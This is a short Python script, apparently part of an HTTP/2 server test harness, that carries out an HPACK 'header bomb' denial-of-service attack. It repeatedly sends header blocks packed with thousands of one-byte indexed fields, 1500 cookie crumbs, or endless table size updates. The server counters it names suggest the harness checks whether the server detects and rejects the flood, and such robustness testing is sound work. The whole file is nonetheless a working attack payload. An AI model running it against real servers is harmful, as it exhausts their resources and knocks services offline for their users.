#!/usr/bin/python3
"""HPACK bomb by count: as many fields as a header list's bytes hold, each one byte on the wire; a cookie in thousands of crumbs;
and table size updates without an end."""
from attacker import Peer, REQUEST, h2, headers, main

MARK = ("http2.headers_bombs", "http2.headers_over", "http2.rx_malformed", "http2.sessions_failed")
ENDED = True


def attack(run):
    short = b"\x40\x01a\x01b"
    lists = (REQUEST + short + b"\xbe" * 15000, REQUEST + h2.literal("cookie", "a") * 1500, b"\x20\x3f\xe1\x1f" * 3000 + REQUEST)
    turn = 0
    while run.going():
        peer, stream = Peer(run), 1
        while run.going() and peer.send(headers(stream, lists[turn % len(lists)])):
            stream += 2
        peer.wait(2)
        peer.close()
        turn += 1


if __name__ == "__main__":
    main(attack)
